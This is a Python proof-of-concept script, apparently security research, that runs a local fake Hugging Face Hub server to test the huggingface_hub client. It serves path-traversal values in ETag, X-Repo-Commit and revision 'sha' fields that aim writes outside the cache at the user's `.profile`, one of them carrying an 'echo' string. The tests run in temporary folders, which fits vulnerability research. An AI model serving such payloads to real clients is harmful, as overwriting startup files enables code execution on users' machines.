"""What a hostile server writes outside the cache through huggingface_hub alone; the report is in tools/CLIENT_PATHS.md.

    python tools/client_paths.py

Each attack has a new home folder with a `.profile` of the user's. Whatever is listed beside that was made by the client from a
header or a field of the answer. A client without the fault lists `.profile` alone, with `the user's own`.
"""

import http.server
import json
import subprocess
import sys
import tempfile
import threading
from pathlib import Path

UP = "../" * 5  # out of HOME/.cache/huggingface/hub/models--org--name/blobs
CODE = b"# chosen by the server\n"
ROW = {"type": "file", "path": "config.json", "size": len(CODE), "oid": "a" * 40}
ONE, FORCED = "hf_hub_download('org/name', 'config.json')", "hf_hub_download('org/name', 'config.json', force_download=True)"
COMMIT = ("X-Repo-Commit", "0" * 40)
INFO = json.dumps({"id": "org/name", "sha": UP + ".profile"}).encode()
ATTACKS = [  # what the user runs; what is answered to whom: part of the path, status, body, headers
    (ONE, ("resolve", 200, CODE, ("ETag", f'"{UP}new"'), COMMIT)),
    (FORCED, ("resolve", 200, CODE, ("ETag", f'"{UP}.profile"'), COMMIT)),
    (ONE, ("resolve", 404, b"", ("X-Error-Code", "EntryNotFound"), ("X-Repo-Commit", UP + "folder"))),
    ("snapshot_download('org/name')", ("revision", 200, INFO)),
]
REST = [
    ("tree", 200, json.dumps([ROW]).encode()),
    ("resolve", 200, CODE, ("ETag", '"a"'), ("X-Repo-Commit", "echo not the user's")),
    ("", 404, b""),
]


class Hub(http.server.BaseHTTPRequestHandler):
    attack: tuple = ()

    def do_GET(self) -> None:
        _, status, body, *headers = next(answer for answer in (self.attack, *REST) if answer[0] in self.path)
        self.send_response(status)
        for header in (*headers, ("Content-Length", str(len(body)))):
            self.send_header(*header)
        self.end_headers()
        self.wfile.write(body if self.command == "GET" else b"")

    do_HEAD = do_GET

    def log_message(self, *args: object) -> None:
        pass


def main() -> None:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Hub)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    for call, Hub.attack in ATTACKS:
        with tempfile.TemporaryDirectory() as folder:
            home = Path(folder)
            (home / ".cache/huggingface").mkdir(parents=True)
            (home / ".profile").write_text("the user's own")
            endpoint = f"http://127.0.0.1:{server.server_port}"
            environ = {"HOME": folder, "HF_ENDPOINT": endpoint, "HF_HUB_DISABLE_XET": "1"}
            code = f"from huggingface_hub import *; {call}"
            subprocess.run([sys.executable, "-c", code], env=environ, capture_output=True, check=False)
            print(f"{call}  {Hub.attack[3:] or Hub.attack[2].decode()}")
            for file in sorted(home.rglob("*")):
                if file.is_file() and ".cache" not in file.parts:
                    print(f"    {file.relative_to(home)}: {file.read_text()[:40]!r}")


if __name__ == "__main__":
    main()
